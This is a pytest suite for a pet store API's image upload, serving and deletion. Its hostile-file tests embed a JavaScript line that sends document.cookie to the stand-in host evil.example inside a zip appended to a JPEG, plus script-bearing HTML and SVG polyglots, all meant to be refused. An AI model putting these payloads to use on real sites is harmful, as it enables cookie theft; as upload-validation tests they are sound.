"""Pet images through HTTP, on every database: upload, serve, delete, and the files on disk.

The ``app`` fixture here overrides the shared one: each test gets an app whose media directory
is the test's own temporary directory, so the tests can look at exactly which files the server
wrote and removed. Every picture is made with Pillow inside the test.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import random
import uuid
import zipfile
from collections.abc import AsyncGenerator, AsyncIterator, Callable
from pathlib import Path
from typing import Any, cast

import httpx
import pytest
from fastapi import FastAPI
from PIL import Image
from sqlalchemy import select
from sqlalchemy.exc import IntegrityError
from sqlalchemy.ext.asyncio import AsyncSession
from starlette.requests import Request

from petstore.container import container_of
from petstore.core.database import get_session, on_commit, on_rollback
from petstore.core.ids import new_id
from petstore.images import service as images_service
from petstore.images.models import PetImage
from petstore.pets import service as pets_service
from petstore.pets.models import Pet
from tests.support.accounts import Account, account_in
from tests.support.apps import make_client, running_app
from tests.support.images import PNG_SIGNATURE, blank_png, decode, encode, png_header
from tests.support.pets import MakePet
from tests.support.problems import assert_problem
from tests.support.settings import fast_settings

BASE = "http://petstore.test"
LIMIT = 5 * 1_048_576  # the documented upload limit (Settings.max_image_bytes)


# --------------------------------------------------------------------------- fixtures


@pytest.fixture
async def app(database_url: str, tmp_path: Path) -> AsyncIterator[FastAPI]:
    """Overrides conftest's ``app``: same database, but files go to this test's own dir."""
    async with running_app(
        fast_settings(database_url, media_dir=tmp_path / "media")
    ) as application:
        yield application


@pytest.fixture
def media(app: FastAPI) -> Path:
    root: Path = container_of(app).settings.media_dir
    return root


@pytest.fixture
async def pet(make_pet: MakePet) -> dict[str, Any]:
    return await make_pet()


# --------------------------------------------------------------------------- helpers


def picture(fmt: str = "JPEG", size: tuple[int, int] = (64, 48), **params: Any) -> bytes:
    """A picture no other test makes: a random colour with a block of random pixels."""
    colour = tuple(os.urandom(3))
    image = Image.new("RGB", size, colour)
    block = (min(16, size[0]), min(16, size[1]))
    image.paste(Image.frombytes("RGB", block, os.urandom(block[0] * block[1] * 3)), (0, 0))
    return encode(image, fmt, **params)


def stored_files(media: Path) -> set[str]:
    """Every file under the media directory (temporary files included), by relative path."""
    if not media.exists():
        return set()
    return {p.relative_to(media).as_posix() for p in media.rglob("*") if p.is_file()}


def stored_names(media: Path) -> set[str]:
    return {name.rsplit("/", 1)[-1] for name in stored_files(media)}


def digest(etag: str) -> str:
    return etag.strip('"')


async def upload(
    client: httpx.AsyncClient,
    pet_id: str,
    data: bytes,
    headers: dict[str, str],
    *,
    filename: str = "pet.jpg",
    content_type: str = "image/jpeg",
    metadata: str | None = None,
) -> httpx.Response:
    form = {"additionalMetadata": metadata} if metadata is not None else None
    return await client.post(
        f"/v1/pets/{pet_id}/images",
        files={"file": (filename, data, content_type)},
        data=form,
        headers=headers,
    )


async def uploaded(
    client: httpx.AsyncClient, pet_id: str, data: bytes, headers: dict[str, str]
) -> dict[str, Any]:
    response = await upload(client, pet_id, data, headers)
    assert response.status_code == 201, response.text
    image: dict[str, Any] = response.json()["image"]
    return image


async def image_rows(app: FastAPI, pet_id: str) -> list[PetImage]:
    async with container_of(app).sessionmaker() as session:
        rows = await session.scalars(select(PetImage).where(PetImage.pet_id == uuid.UUID(pet_id)))
        return list(rows.all())


async def photos(client: httpx.AsyncClient, pet_id: str) -> list[str]:
    response = await client.get(f"/v1/pets/{pet_id}")
    assert response.status_code == 200, response.text
    result: list[str] = response.json()["photos"]
    return result


async def staff_headers(app: FastAPI, tenant: str) -> dict[str, str]:
    """A staff member of ``tenant`` (made as the CLI does) and their bearer header."""
    return (await account_in(app, tenant, staff=True)).auth


def request_transaction(app: FastAPI) -> AsyncGenerator[AsyncSession, None]:
    """The session dependency of a writing request, driven by hand: ``anext`` opens it,
    ``anext`` again commits (then runs the after-commit callbacks), ``athrow`` fails the
    request (rollback, then the after-rollback callbacks). It reads only method and app."""
    request = Request(
        {
            "type": "http",
            "method": "POST",
            "path": "/v1/pets/images",
            "query_string": b"",
            "headers": [],
            "app": app,
        }
    )
    return cast(AsyncGenerator[AsyncSession, None], get_session(request))


async def add_directly(app: FastAPI, session: AsyncSession, pet: Pet, data: bytes) -> PetImage:
    """``add_image`` inside a request transaction driven by hand, as the upload route calls
    it."""
    state = container_of(app)
    return await images_service.add_image(
        session,
        state.sessionmaker,
        state.storage,
        pet,
        data,
        None,
        BASE,
        max_pixels=state.settings.max_image_pixels,
    )


async def assert_nothing_stored(
    app: FastAPI, client: httpx.AsyncClient, media: Path, pet_id: str
) -> None:
    assert stored_files(media) == set()
    assert await image_rows(app, pet_id) == []
    assert await photos(client, pet_id) == []


# --------------------------------------------------------------------------- upload


async def test_upload_returns_201_the_image_and_location_and_appends_to_photos(
    app: FastAPI, client: httpx.AsyncClient, staff: Account, pet: dict[str, Any]
) -> None:
    data = picture("JPEG", (120, 80))
    response = await upload(client, pet["id"], data, staff.auth, metadata="Front view")
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["success"] is True
    assert isinstance(body["message"], str)
    assert body["message"]
    image = body["image"]
    assert set(image) == {"id", "url", "thumbnailUrl", "contentType", "width", "height", "bytes"}
    url = f"{BASE}/v1/pets/{pet['id']}/images/{image['id']}"
    assert image["url"] == url
    assert image["thumbnailUrl"] == f"{url}?size=thumb"
    assert (image["contentType"], image["width"], image["height"]) == ("image/jpeg", 120, 80)
    assert response.headers["location"] == url

    served = await client.get(url)
    assert served.status_code == 200
    assert image["bytes"] == len(served.content)
    assert await photos(client, pet["id"]) == [url]

    (row,) = await image_rows(app, pet["id"])
    assert str(row.id) == image["id"]
    assert row.additional_metadata == "Front view"

    second = await uploaded(client, pet["id"], picture("PNG"), staff.auth)
    assert await photos(client, pet["id"]) == [url, second["url"]]


async def test_the_type_is_decided_by_the_bytes_not_the_name_or_declared_type(
    client: httpx.AsyncClient, staff: Account, pet: dict[str, Any], media: Path
) -> None:
    data = picture("PNG", (40, 30))
    response = await upload(
        client, pet["id"], data, staff.auth, filename="photo.jpg", content_type="image/jpeg"
    )
    assert response.status_code == 201, response.text
    assert response.json()["image"]["contentType"] == "image/png"

    served = await client.get(response.json()["image"]["url"])
    assert served.status_code == 200
    assert served.headers["content-type"] == "image/png"
    assert served.content.startswith(PNG_SIGNATURE)
    assert decode(served.content).format == "PNG"
    assert {name.rsplit(".", 1)[-1] for name in stored_names(media)} == {"png"}


async def test_only_staff_can_upload(
    app: FastAPI,
    client: httpx.AsyncClient,
    user: Account,
    pet: dict[str, Any],
    media: Path,
) -> None:
    assert_problem(await upload(client, pet["id"], picture(), {}), 401, "unauthorized")
    assert_problem(await upload(client, pet["id"], picture(), user.auth), 403, "forbidden")
    await assert_nothing_stored(app, client, media, pet["id"])


async def test_the_pet_stays_editable_after_more_uploads_than_photos_allows(
    client: httpx.AsyncClient, staff: Account, pet: dict[str, Any]
) -> None:
    """A pet has at most 20 photos (PetWrite). Uploading more must either be refused or
    leave the pet editable: never a pet that every later PATCH answers with a 500."""
    statuses = [
        (await upload(client, pet["id"], picture(), staff.auth)).status_code for _ in range(21)
    ]
    assert statuses[:20] == [201] * 20
    assert statuses[20] == 201 or 400 <= statuses[20] < 500, statuses
    response = await client.patch(
        f"/v1/pets/{pet['id']}",
        content=b'{"price": "99.00"}',
        headers={**staff.auth, "Content-Type": "application/merge-patch+json"},
    )
    assert response.status_code == 200, response.text
    assert response.json()["price"] == "99.00"


def _gif() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(out, "GIF")
    return out.getvalue()


def _bmp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "blue").save(out, "BMP")
    return out.getvalue()


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>alert(1)</script><rect width="10" height="10"/></svg>'
)


@pytest.mark.parametrize(
    ("filename", "content_type", "make"),
    [
        ("cat.gif", "image/gif", _gif),
        ("cat.jpg", "image/jpeg", _bmp),
        ("notes.jpg", "image/jpeg", lambda: b"Not an image at all, only some text.\n" * 20),
        ("cat.svg", "image/svg+xml", lambda: SVG),
    ],
    ids=["gif", "bmp", "text", "svg"],
)
async def test_other_types_are_refused_with_415(
    app: FastAPI,
    client: httpx.AsyncClient,
    staff: Account,
    pet: dict[str, Any],
    media: Path,
    filename: str,
    content_type: str,
    make: Callable[[], bytes],
) -> None:
    response = await upload(
        client, pet["id"], make(), staff.auth, filename=filename, content_type=content_type
    )
    assert_problem(response, 415, "unsupported-media-type")
    await assert_nothing_stored(app, client, media, pet["id"])


async def test_a_body_that_is_not_multipart_is_refused_with_415(
    app: FastAPI, client: httpx.AsyncClient, staff: Account, pet: dict[str, Any], media: Path
) -> None:
    response = await client.post(
        f"/v1/pets/{pet['id']}/images",
        json={"file": picture().hex(), "additionalMetadata": "x"},
        headers=staff.auth,
    )
    assert_problem(response, 415, "unsupported-media-type")
    await assert_nothing_stored(app, client, media, pet["id"])


# --------------------------------------------------------------------------- size limit


def oversized(file_bytes: int) -> bytes:
    """A real JPEG padded to ``file_bytes``: refused for its size, whatever it contains."""
    head = picture()
    return head + b"\0" * (file_bytes - len(head))


@pytest.mark.parametrize(
    "file_bytes",
    [LIMIT + 1, 6 * 1_048_576],
    ids=["just-over-the-limit", "far-over-the-limit"],
)
async def test_a_file_over_5mb_with_content_length_is_413_and_nothing_is_stored(
    app: FastAPI,
    client: httpx.AsyncClient,
    staff: Account,
    pet: dict[str, Any],
    media: Path,
    file_bytes: int,
) -> None:
    assert container_of(app).settings.max_image_bytes == LIMIT
    request = client.build_request(
        "POST",
        f"/v1/pets/{pet['id']}/images",
        files={"file": ("big.jpg", oversized(file_bytes), "image/jpeg")},
        headers=staff.auth,
    )
    assert int(request.headers["content-length"]) > file_bytes
    assert_problem(await client.send(request), 413, "payload-too-large")
    await assert_nothing_stored(app, client, media, pet["id"])


async def test_a_file_of_exactly_5mb_is_not_refused_for_its_size(
    client: httpx.AsyncClient, staff: Account, pet: dict[str, Any]
) -> None:
    """The limit is inclusive: a padded file of exactly 5 MB gets past the size check (and is
    then refused as a polyglot, since the padding follows the image's end)."""
    response = await upload(client, pet["id"], oversized(LIMIT), staff.auth)
    assert_problem(response, 422, "validation-error")


CHUNK = 64 * 1024


@pytest.mark.parametrize(
    "file_bytes",
    [LIMIT + 1, 8 * 1_048_576],
    ids=["just-over-the-limit", "far-over-the-limit"],
)
async def test_a_file_over_5mb_streamed_without_content_length_is_413(
    app: FastAPI,
    client: httpx.AsyncClient,
    staff: Account,
    pet: dict[str, Any],
    media: Path,
    file_bytes: int,
) -> None:
    boundary = "petstore-test-boundary"
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="file"; filename="big.jpg"\r\n'
            "Content-Type: image/jpeg\r\n\r\n"
        ).encode()
        + oversized(file_bytes)
        + f"\r\n--{boundary}--\r\n".encode()
    )
    sent = 0

    async def chunks() -> AsyncIterator[bytes]:
        nonlocal sent
        for start in range(0, len(body), CHUNK):
            piece = body[start : start + CHUNK]
            sent += len(piece)
            yield piece

    request = client.build_request(
        "POST",
        f"/v1/pets/{pet['id']}/images",
        content=chunks(),
        headers={**staff.auth, "Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    assert "content-length" not in request.headers
    assert request.headers["transfer-encoding"] == "chunked"
    assert_problem(await client.send(request), 413, "payload-too-large")
    if file_bytes > LIMIT + CHUNK * 2:  # the server stopped reading soon after the limit
        assert sent < file_bytes
        assert sent <= LIMIT + 64 * 1024 + CHUNK * 2
    await assert_nothing_stored(app, client, media, pet["id"])


# --------------------------------------------------------------------------- hostile files


@pytest.mark.parametrize(
    ("width", "height"),
    [(10_000, 10_000), (8_000, 8_000), (7_280, 5_450), (4_096, 4_097)],
    ids=["100-megapixels", "64-megapixels", "the-reported-39.7-megapixels", "one-row-too-many"],
)
async def test_a_decompression_bomb_is_refused_with_422(
    app: FastAPI,
    client: httpx.AsyncClient,
    staff: Account,
    pet: dict[str, Any],
    media: Path,
    width: int,
    height: int,
) -> None:
    data = blank_png(width, height)
    assert len(data) < 400_000  # small on the wire; the danger is the decoded size
    response = await upload(client, pet["id"], data, staff.auth, filename="b.png")
    body = assert_problem(response, 422, "validation-error")
    assert body["errors"][0]["field"] == "file"
    assert "too many pixels" in body["detail"]
    assert "16,777,216" in body["detail"]  # the documented PETSTORE_MAX_IMAGE_PIXELS
    await assert_nothing_stored(app, client, media, pet["id"])


async def test_the_pixel_count_is_refused_from_the_header_before_decoding(
    client: httpx.AsyncClient, staff: Account, pet: dict[str, Any]
) -> None:
    """The file declares 25 MP and holds no pixel data: decoding it would fail ("broken"),
    so only a check of the declared size made before decoding answers "too many pixels"."""
    response = await upload(client, pet["id"], png_header(5_000, 5_000), staff.auth)
    body = assert_problem(response, 422, "validation-error")
    assert "too many pixels" in body["detail"]
    # The control: the same empty file within the limit is refused as broken.
    response = await upload(client, pet["id"], png_header(500, 500), staff.auth)
    assert "broken or truncated" in assert_problem(response, 422, "validation-error")["detail"]


async def test_the_pixel_limit_is_a_setting(
    database_url: str, tmp_path: Path, staff: Account, tenant: str, pet: dict[str, Any]
) -> None:
    settings = fast_settings(database_url, media_dir=tmp_path / "m", max_image_pixels=10_000)
    async with running_app(settings) as small, make_client(small, tenant) as client:
        at_limit = await upload(client, pet["id"], blank_png(100, 100), staff.auth)
        assert at_limit.status_code == 201, at_limit.text
        over = await upload(client, pet["id"], blank_png(100, 101), staff.auth)
        body = assert_problem(over, 422, "validation-error")
        assert "100 x 101 is over the limit of 10,000" in body["detail"]


def jpeg_header() -> bytes:
    """A fixed JPEG cut just after its start-of-scan header: everything but the pixels."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (90, 120, 150)).save(out, "JPEG")
    data = out.getvalue()
    sos = data.index(b"\xff\xda")
    return data[: sos + 2 + int.from_bytes(data[sos + 2 : sos + 4], "big")]


def zip_payload() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.js", "fetch('https://evil.example/' + document.cookie)")
    return out.getvalue()


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


HOSTILE: dict[str, Callable[[], bytes]] = {
    "truncated-jpeg": lambda: (lambda d: d[: len(d) // 2])(picture("JPEG", (200, 150))),
    "jpeg-plus-zip": lambda: picture() + zip_payload(),
    "jpeg-plus-html": lambda: picture() + HTML,
    "png-with-data-after-iend": lambda: picture("PNG") + HTML,
    # The payload ends with the marker the server looks for last: still a polyglot.
    "jpeg-plus-html-ending-in-an-eoi-marker": lambda: picture() + HTML + b"\xff\xd9",
    "png-plus-data-containing-an-iend-chunk": lambda: (
        picture("PNG") + HTML + b"\x00\x00\x00\x00IEND\xaeB`\x82"
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE))
async def test_truncated_files_and_polyglots_are_refused_with_422(
    app: FastAPI,
    client: httpx.AsyncClient,
    staff: Account,
    pet: dict[str, Any],
    media: Path,
    case: str,
) -> None:
    response = await upload(client, pet["id"], HOSTILE[case](), staff.auth)
    body = assert_problem(response, 422, "validation-error")
    assert body["errors"] == [{"field": "file", "message": body["detail"], "code": "invalid_image"}]
    await assert_nothing_stored(app, client, media, pet["id"])


async def test_random_bytes_after_a_jpeg_header_are_refused_with_422(
    app: FastAPI, client: httpx.AsyncClient, staff: Account, pet: dict[str, Any], media: Path
) -> None:
    """Broken files: a valid JPEG header followed by noise instead of image data. Several
    fixed seeds, since noise sometimes happens to decode as (garbage) pixels."""
    header = jpeg_header()
    assert Image.open(io.BytesIO(header)).size == (64, 48)  # the header itself is sound
    statuses: dict[int, int] = {}
    for seed in range(12):
        data = header + random.Random(seed).randbytes(3000)
        response = await upload(client, pet["id"], data, staff.auth)
        assert response.status_code < 500, response.text
        statuses[seed] = response.status_code
    accepted = {seed: status for seed, status in statuses.items() if status != 422}
    assert accepted == {}, f"broken JPEGs not refused with 422 (seed: status): {accepted}"
    await assert_nothing_stored(app, client, media, pet["id"])


# --------------------------------------------------------------------------- clean copies


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Canon"  # Make
    exif[0x0110] = "EOS 5D"  # Model
    gps = exif.get_ifd(0x8825)  # GPSInfo
    gps.update({1: "N", 2: (51.0, 30.0, 12.5), 3: "W", 4: (0.0, 7.0, 39.0)})
    image = Image.new("RGB", (640, 480), tuple(os.urandom(3)))
    image.paste(Image.frombytes("RGB", (16, 16), os.urandom(16 * 16 * 3)), (0, 0))
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


async def test_exif_and_the_gps_position_are_removed(
    client: httpx.AsyncClient, staff: Account, pet: dict[str, Any]
) -> None:
    original = jpeg_with_gps()
    # Positive control: the upload really carries a position and a camera make.
    exif = Image.open(io.BytesIO(original)).getexif()
    assert exif[0x010F] == "Canon"
    assert exif.get_ifd(0x8825)[2] == (51.0, 30.0, 12.5)
    assert b"Exif" in original

    image = await uploaded(client, pet["id"], original, staff.auth)
    for url in (image["url"], image["thumbnailUrl"]):
        served = await client.get(url)
        assert served.status_code == 200
        cleaned = Image.open(io.BytesIO(served.content)).getexif()
        assert 0x8825 not in cleaned
        assert cleaned.get_ifd(0x8825) == {}
        assert 0x010F not in cleaned
        assert 0x0110 not in cleaned
        assert b"Exif" not in served.content
        assert b"Canon" not in served.content


@pytest.mark.parametrize(
    ("size", "thumb"),
    [((800, 400), (320, 160)), ((300, 900), (107, 320)), ((1000, 1000), (320, 320))],
    ids=["landscape", "portrait", "square"],
)
async def test_thumbnail_has_a_320px_longest_edge_and_the_full_image_keeps_its_size(
    client: httpx.AsyncClient,
    staff: Account,
    pet: dict[str, Any],
    size: tuple[int, int],
    thumb: tuple[int, int],
) -> None:
    image = await uploaded(client, pet["id"], picture("JPEG", size), staff.auth)
    assert (image["width"], image["height"]) == size

    full = await client.get(image["url"])
    assert full.status_code == 200
    assert decode(full.content).size == size

    small = await client.get(image["thumbnailUrl"])
    assert small.status_code == 200
    assert small.headers["content-type"] == "image/jpeg"
    width, height = decode(small.content).size
    assert max(width, height) == 320
    assert (width, height) == thumb
    assert abs(width / height - size[0] / size[1]) < 0.01
    assert small.headers["etag"] != full.headers["etag"]


async def test_the_same_image_twice_is_stored_once_and_removed_with_its_last_user(
    app: FastAPI, client: httpx.AsyncClient, staff: Account, make_pet: MakePet, media: Path
) -> None:
    first_pet, second_pet = await make_pet(), await make_pet(name="Twin")
    data = picture("JPEG", (800, 600))
    first = await uploaded(client, first_pet["id"], data, staff.auth)
    second = await uploaded(client, second_pet["id"], data, staff.auth)
    assert first["id"] != second["id"]

    full_a, full_b = await client.get(first["url"]), await client.get(second["url"])
    thumb_a, thumb_b = (
        await client.get(first["thumbnailUrl"]),
        await client.get(second["thumbnailUrl"]),
    )
    assert full_a.headers["etag"] == full_b.headers["etag"]
    assert thumb_a.headers["etag"] == thumb_b.headers["etag"]
    # Content addressed: the name is the SHA-256 of the bytes; one file per content.
    full_sha, thumb_sha = digest(full_a.headers["etag"]), digest(thumb_a.headers["etag"])
    assert full_sha == hashlib.sha256(full_a.content).hexdigest()
    assert thumb_sha == hashlib.sha256(thumb_a.content).hexdigest()
    both = {f"{full_sha}.jpg", f"{thumb_sha}.jpg"}
    assert stored_names(media) == both
    assert len(stored_files(media)) == 2

    deleted = await client.delete(first["url"], headers=staff.auth)
    assert deleted.status_code == 204
    assert stored_names(media) == both  # still used by the second image
    again = await client.get(second["url"])
    assert again.status_code == 200
    assert again.content == full_a.content
    assert (await client.get(second["thumbnailUrl"])).status_code == 200

    deleted = await client.delete(second["url"], headers=staff.auth)
    assert deleted.status_code == 204
    assert stored_files(media) == set()


# --------------------------------------------------------------------------- serving


async def test_serving_sets_type_etag_and_cache_control_and_answers_304(
    client: httpx.AsyncClient, staff: Account, pet: dict[str, Any]
) -> None:
    image = await uploaded(client, pet["id"], picture("WEBP", (500, 250)), staff.auth)
    assert image["contentType"] == "image/webp"
    for url in (image["url"], image["thumbnailUrl"]):
        served = await client.get(url)
        assert served.status_code == 200
        assert served.headers["content-type"] == "image/webp"
        assert decode(served.content).format == "WEBP"
        etag = served.headers["etag"]
        assert etag == f'"{hashlib.sha256(served.content).hexdigest()}"'
        cache = [part.strip() for part in served.headers["cache-control"].split(",")]
        assert cache[0] == "public"
        max_age = [p for p in cache if p.startswith("max-age=")]
        assert len(max_age) == 1
        assert int(max_age[0].removeprefix("max-age=")) > 0

        unchanged = await client.get(url, headers={"If-None-Match": etag})
        assert unchanged.status_code == 304
        assert unchanged.content == b""
        assert unchanged.headers["etag"] == etag

        stale = await client.get(url, headers={"If-None-Match": '"something-else"'})
        assert stale.status_code == 200
        assert stale.content == served.content


async def test_an_unknown_image_is_404(client: httpx.AsyncClient, pet: dict[str, Any]) -> None:
    response = await client.get(f"/v1/pets/{pet['id']}/images/{uuid.uuid4()}")
    assert_problem(response, 404, "not-found")


async def test_an_image_asked_for_under_another_pet_is_404(
    client: httpx.AsyncClient, staff: Account, make_pet: MakePet
) -> None:
    owner, other = await make_pet(), await make_pet(name="Other")
    image = await uploaded(client, owner["id"], picture(), staff.auth)
    wrong = f"/v1/pets/{other['id']}/images/{image['id']}"
    assert_problem(await client.get(wrong), 404, "not-found")
    assert_problem(await client.delete(wrong, headers=staff.auth), 404, "not-found")
    assert (await client.get(image["url"])).status_code == 200  # still there, under its pet
    assert await photos(client, owner["id"]) == [image["url"]]


async def test_another_tenant_can_neither_see_nor_upload_to_nor_delete_the_images(
    app: FastAPI, client: httpx.AsyncClient, staff: Account, pet: dict[str, Any], media: Path
) -> None:
    image = await uploaded(client, pet["id"], picture(), staff.auth)
    files = stored_files(media)
    other_tenant = str(uuid.uuid4())
    other_staff = await staff_headers(app, other_tenant)
    async with make_client(app, other_tenant) as other:
        assert_problem(await other.get(image["url"]), 404, "not-found")
        assert_problem(await other.get(image["thumbnailUrl"]), 404, "not-found")
        refused = await upload(other, pet["id"], picture("PNG"), other_staff)
        assert_problem(refused, 404, "not-found")
        assert_problem(await other.delete(image["url"], headers=other_staff), 404, "not-found")
    assert stored_files(media) == files
    assert [str(row.id) for row in await image_rows(app, pet["id"])] == [image["id"]]
    assert await photos(client, pet["id"]) == [image["url"]]
    assert (await client.get(image["url"])).status_code == 200


# --------------------------------------------------------------------------- deleting


async def test_deleting_an_image_removes_its_files_row_and_photo(
    app: FastAPI,
    client: httpx.AsyncClient,
    staff: Account,
    user: Account,
    pet: dict[str, Any],
    media: Path,
) -> None:
    kept = await uploaded(client, pet["id"], picture("JPEG", (400, 300)), staff.auth)
    kept_files = stored_files(media)
    gone = await uploaded(client, pet["id"], picture("PNG", (400, 300)), staff.auth)
    gone_files = stored_files(media) - kept_files
    assert len(gone_files) == 2  # the image and its thumbnail

    assert_problem(await client.delete(gone["url"]), 401, "unauthorized")
    assert_problem(await client.delete(gone["url"], headers=user.auth), 403, "forbidden")
    assert stored_files(media) == kept_files | gone_files
    assert len(await image_rows(app, pet["id"])) == 2

    response = await client.delete(gone["url"], headers=staff.auth)
    assert response.status_code == 204
    assert response.content == b""
    assert stored_files(media) == kept_files
    assert [str(row.id) for row in await image_rows(app, pet["id"])] == [kept["id"]]
    assert await photos(client, pet["id"]) == [kept["url"]]
    assert_problem(await client.get(gone["url"]), 404, "not-found")
    assert_problem(await client.delete(gone["url"], headers=staff.auth), 404, "not-found")
    assert (await client.get(kept["url"])).status_code == 200


async def test_deleting_the_pet_removes_its_images_files(
    app: FastAPI, client: httpx.AsyncClient, staff: Account, make_pet: MakePet, media: Path
) -> None:
    other = await make_pet(name="Stays")
    kept = await uploaded(client, other["id"], picture("JPEG", (400, 300)), staff.auth)
    kept_files = stored_files(media)
    doomed = await make_pet(name="Goes")
    for fmt in ("JPEG", "PNG"):
        await uploaded(client, doomed["id"], picture(fmt, (400, 300)), staff.auth)
    assert len(stored_files(media) - kept_files) == 4

    response = await client.delete(f"/v1/pets/{doomed['id']}", headers=staff.auth)
    assert response.status_code == 204
    assert stored_files(media) == kept_files
    assert await image_rows(app, doomed["id"]) == []
    assert (await client.get(kept["url"])).status_code == 200


# --------------------------------------------------------------------------- failures


async def test_an_upload_whose_row_cannot_be_written_leaves_no_file(
    app: FastAPI, tenant: str, media: Path
) -> None:
    """The files are written, then the row violates a constraint (its pet does not exist):
    the request's session dependency rolls back and the files go."""
    ghost = Pet(id=new_id(), tenant=tenant)  # never inserted: pet_images.pet_id has no target
    data = picture("JPEG", (400, 300))
    sessions = request_transaction(app)
    session = await anext(sessions)
    with pytest.raises(IntegrityError) as failure:
        await add_directly(app, session, ghost, data)
    assert len(stored_files(media)) == 2  # written before the row failed
    with pytest.raises(IntegrityError):
        await sessions.athrow(failure.value)
    assert stored_files(media) == set()
    assert await image_rows(app, str(ghost.id)) == []


async def test_a_request_failing_after_the_upload_leaves_no_file_no_row_no_photo(
    app: FastAPI, client: httpx.AsyncClient, tenant: str, pet: dict[str, Any], media: Path
) -> None:
    """``add_image`` succeeds, then the request fails before its commit: the session
    dependency rolls back and runs the rollback callbacks, as for any failing request."""
    sessions = request_transaction(app)
    session = await anext(sessions)
    row = await pets_service.get_pet(session, tenant, uuid.UUID(pet["id"]), for_update=True)
    image = await add_directly(app, session, row, picture())
    assert image.key.rsplit("/", 1)[-1] in stored_names(media)
    with pytest.raises(RuntimeError, match="after the upload"):
        await sessions.athrow(RuntimeError("failed after the upload"))
    await assert_nothing_stored(app, client, media, pet["id"])


async def test_a_failed_upload_keeps_a_file_another_image_already_uses(
    app: FastAPI,
    client: httpx.AsyncClient,
    staff: Account,
    tenant: str,
    make_pet: MakePet,
    media: Path,
) -> None:
    data = picture("JPEG", (400, 300))
    owner = await make_pet()
    existing = await uploaded(client, owner["id"], data, staff.auth)
    files = stored_files(media)
    other = await make_pet(name="Other")

    sessions = request_transaction(app)
    session = await anext(sessions)
    row = await pets_service.get_pet(session, tenant, uuid.UUID(other["id"]), for_update=True)
    await add_directly(app, session, row, data)
    with pytest.raises(RuntimeError):
        await sessions.athrow(RuntimeError("failed after the upload"))

    assert stored_files(media) == files
    assert await image_rows(app, other["id"]) == []
    served = await client.get(existing["url"])
    assert served.status_code == 200
    assert (await client.get(existing["thumbnailUrl"])).status_code == 200


class InFlightUpload:
    """An upload request to a pet, run up to (not including) its commit, as a callback."""

    def __init__(self, app: FastAPI, tenant: str, pet_id: str, data: bytes) -> None:
        self.app, self.tenant, self.pet_id, self.data = app, tenant, uuid.UUID(pet_id), data
        self.sessions: AsyncGenerator[AsyncSession, None] | None = None
        self.image: PetImage | None = None

    async def start(self) -> None:
        self.sessions = request_transaction(self.app)
        session = await anext(self.sessions)
        row = await pets_service.get_pet(session, self.tenant, self.pet_id, for_update=True)
        self.image = await add_directly(self.app, session, row, self.data)

    async def commit(self) -> str:
        assert self.sessions is not None
        assert self.image is not None, "the upload did not run"
        with pytest.raises(StopAsyncIteration):
            await anext(self.sessions)  # commit, then the after-commit callbacks
        return images_service.image_url(BASE, self.pet_id, self.image.id)


async def assert_served(client: httpx.AsyncClient, url: str, media: Path) -> None:
    served = await client.get(url)
    assert served.status_code == 200, served.text
    thumb = await client.get(f"{url}?size=thumb")
    assert thumb.status_code == 200, thumb.text
    assert stored_names(media) == {
        f"{hashlib.sha256(served.content).hexdigest()}.jpg",
        f"{hashlib.sha256(thumb.content).hexdigest()}.jpg",
    }


async def test_a_file_deleted_while_another_upload_of_it_is_in_flight_survives(
    app: FastAPI,
    client: httpx.AsyncClient,
    staff: Account,
    tenant: str,
    make_pet: MakePet,
    media: Path,
) -> None:
    """Image A is deleted while a request uploading the same content (image B) runs: B found
    the files already there (so wrote nothing) and commits after A's post-commit clean-up
    looked for other users of the files. B's files must still exist afterwards.

    Deterministic: an after-commit callback of A's request, registered before A's clean-up,
    runs B up to its commit; then A's clean-up runs; then B commits."""
    data = picture("JPEG", (400, 300))
    pet_a, pet_b = await make_pet(), await make_pet(name="B")
    image_a = await uploaded(client, pet_a["id"], data, staff.auth)
    b = InFlightUpload(app, tenant, pet_b["id"], data)
    state = container_of(app)

    a_sessions = request_transaction(app)
    session_a = await anext(a_sessions)
    on_commit(session_a, b.start)
    row_a = await pets_service.get_pet(session_a, tenant, uuid.UUID(pet_a["id"]), for_update=True)
    loaded_a = await images_service.get_image(session_a, tenant, row_a.id, uuid.UUID(image_a["id"]))
    await images_service.delete_image(session_a, state.sessionmaker, state.storage, row_a, loaded_a)
    with pytest.raises(StopAsyncIteration):
        await anext(a_sessions)  # commit A, then run B, then A's clean-up
    url = await b.commit()

    assert await photos(client, pet_b["id"]) == [url]
    await assert_served(client, url, media)


async def test_a_file_removed_by_a_failed_upload_while_another_upload_of_it_is_in_flight_survives(
    app: FastAPI,
    client: httpx.AsyncClient,
    tenant: str,
    make_pet: MakePet,
    media: Path,
) -> None:
    """Upload A writes new files and then fails, while upload B of the same content runs: B
    found the files there (so wrote nothing) and commits after A's rollback clean-up looked
    for other users of the files. B's files must still exist afterwards.

    Deterministic: an after-rollback callback of A's request, registered before A's
    clean-up, runs B up to its commit; then A's clean-up runs; then B commits."""
    data = picture("JPEG", (400, 300))
    pet_a, pet_b = await make_pet(), await make_pet(name="B")
    b = InFlightUpload(app, tenant, pet_b["id"], data)

    a_sessions = request_transaction(app)
    session_a = await anext(a_sessions)
    on_rollback(session_a, b.start)
    row_a = await pets_service.get_pet(session_a, tenant, uuid.UUID(pet_a["id"]), for_update=True)
    await add_directly(app, session_a, row_a, data)
    assert len(stored_files(media)) == 2  # A wrote the files
    with pytest.raises(RuntimeError, match="after the upload"):
        await a_sessions.athrow(RuntimeError("failed after the upload"))
    url = await b.commit()

    assert await image_rows(app, pet_a["id"]) == []
    assert await photos(client, pet_a["id"]) == []
    assert await photos(client, pet_b["id"]) == [url]
    await assert_served(client, url, media)


